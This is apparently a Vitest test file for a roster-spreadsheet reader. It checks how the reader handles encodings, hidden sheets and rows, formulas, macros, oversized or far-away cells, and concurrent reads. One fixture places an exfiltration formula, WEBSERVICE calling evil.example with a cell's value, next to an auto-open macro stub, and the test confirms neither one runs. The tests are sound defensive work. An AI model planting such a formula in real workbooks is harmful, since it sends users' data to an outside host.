import { unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { excelFile } from '../../../tests/support/excel-file.ts';
import { docResume, docxResume } from '../../../tests/support/resume-files.ts';
import { zip } from '../../../tests/support/zip.ts';
import { readRosterFile } from './read-roster-file.ts';

test('a file in Windows-1252 is read as such, and said to be', async () => {
  const read = (text: string, encoding?: BufferEncoding) => readRosterFile(Buffer.from(text, encoding));
  expect(await read('name\nZo\u00EB', 'latin1')).toEqual({ text: 'name\nZoë', isWindows: true, sheet: '' });
  expect(await read('\uFEFFname\nZoë')).toEqual({ text: 'name\nZoë', isWindows: false, sheet: '' });
  expect(await read('\uFEFFname\nअनीता', 'utf16le')).toEqual({
    text: 'name\nअनीता',
    isWindows: false,
    sheet: '',
  });
});

test('a workbook gives its first sheet with rows, days that can mean one day, and numbers whole', async () => {
  const batch = [
    ['Name', 'Date', 'Certificate No'],
    ['René D’Souza & Co', new Date('2026-11-03'), 482_109_375_514],
    [null, '31/11/2026', 'KA-17'],
  ];
  const text =
    'Name\tDate\tCertificate No\nRené D’Souza & Co\t2026-11-03\t482109375514\n\t31/11/2026\tKA-17\n';
  expect(await readRosterFile(excelFile({ Empty: [], Batch: batch }))).toEqual({
    text,
    isWindows: false,
    sheet: '',
  });
  const two = await readRosterFile(excelFile({ Batch: batch, Fees: [['Paid'], [1]] }));
  expect(two).toMatchObject({ text, sheet: 'Batch' });
});

const SHEET = 'xl/worksheets/sheet1.xml';
const PARTS = unzipSync(excelFile({ Batch: [['Name'], ['Asha Rao']] }));

/** A workbook of one trainee, with these parts in it. */
function workbookWith(parts: Record<string, string | Buffer>): Buffer {
  const own = Object.entries(PARTS).map(([name, part]) => [name, Buffer.from(part)]);
  return zip({ ...(Object.fromEntries(own) as Record<string, Buffer>), ...parts });
}

test('of hidden sheets none is read, and rows that are hidden are not stored unseen', async () => {
  const two = { Choices: [['DevOps Automation']], Batch: [['Name'], ['Asha Rao'], ['Ravi Das']] };
  const files = unzipSync(excelFile(two));
  const part = (name: string) => Buffer.from(files[name] ?? []).toString();
  const hidden = {
    'xl/workbook.xml': part('xl/workbook.xml').replace('sheetId="1"', 'state="hidden" sheetId="1"'),
  };
  const kept = Object.fromEntries(
    Object.entries(files).map(([name, content]) => [name, Buffer.from(content)]),
  );
  expect(await readRosterFile(zip({ ...kept, ...hidden }))).toMatchObject({
    text: 'Name\nAsha Rao\nRavi Das\n',
    sheet: '',
  });
  const both = {
    'xl/workbook.xml': hidden['xl/workbook.xml'].replace('sheetId="2"', 'state="hidden" sheetId="2"'),
  };
  await expect(readRosterFile(zip({ ...kept, ...both }))).rejects.toThrow(
    'The sheets that are shown hold no rows',
  );
  const filtered = part('xl/worksheets/sheet2.xml').replace('<row r="3">', '<row r="3" hidden="1">');
  await expect(
    readRosterFile(zip({ ...kept, ...hidden, 'xl/worksheets/sheet2.xml': filtered })),
  ).rejects.toThrow('This sheet hides a row that holds something (row 3)');
});

test('of a formula its last value is read, and a macro is left where it is', async () => {
  const sheet = Buffer.from(PARTS[SHEET] ?? []).toString();
  const formula = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>';
  const workbook = workbookWith({
    [SHEET]: sheet.replace(/(<c r="A2"[^>]*>)/, `$1${formula}`),
    'xl/vbaProject.bin': 'Sub Workbook_Open()',
  });
  expect(await readRosterFile(workbook)).toMatchObject({ text: 'Name\nAsha Rao\n' });
});

test.each([
  [
    'an old workbook, or one with a password',
    docResume().buffer,
    'in the form of Excel 97, or has a password',
  ],
  ['a document', docxResume().buffer, 'could not be read as an Excel workbook'],
  ['half a workbook', excelFile({ A: [['Name'], ['Asha']] }).subarray(0, 900), 'could not be read'],
  [
    'a workbook that unpacks to more than a class needs',
    workbookWith({ [SHEET]: Buffer.alloc(21 * 1024 * 1024) }),
    'This workbook holds more than 20 MB. Copy the rows into a new workbook, or save the sheet as',
  ],
])('%s is refused with what to do', async (_what, file, sentence) => {
  await expect(readRosterFile(file)).rejects.toThrow(sentence);
});

const withRow = (row: string) =>
  workbookWith({
    [SHEET]: Buffer.from(PARTS[SHEET] ?? [])
      .toString()
      .replace('</sheetData>', `${row}$&`),
  });

test('a cell far away is refused when it holds something, and passed over when it does not', async () => {
  const far = (value: string) => withRow(`<row r="1048576"><c r="XFD1048576" s="1">${value}</c></row>`);
  await expect(readRosterFile(far('<v>1</v>'))).rejects.toThrow(
    'A cell far away (XFD1048576) holds something: delete it, or save the rows as CSV',
  );
  expect(await readRosterFile(far(''))).toMatchObject({ text: 'Name\nAsha Rao\n' });
});

test('what gets past the bounds ends the process that reads it, and no other', async () => {
  const hidden = withRow('<row r="&#49;048576"><c r="&#88;FD1048576"><v>1</v></c></row>');
  await expect(readRosterFile(hidden)).rejects.toThrow('This workbook takes too much to read');
  expect(await readRosterFile(excelFile({ Batch: [['Name'], ['Asha Rao']] }))).toMatchObject({
    text: 'Name\nAsha Rao\n',
  });
});

test('workbooks wait for one another, and so many may wait', async () => {
  const one = excelFile({ Batch: [['Name'], ['Asha Rao']] });
  const all = Array.from({ length: 9 }, () => readRosterFile(one));
  await expect(all.pop()).rejects.toThrow('Other workbooks are being read. Please try again in a minute');
  const texts = (await Promise.all(all)).map(({ text }) => text);
  expect(texts).toEqual(Array.from({ length: 8 }, () => 'Name\nAsha Rao\n'));
});
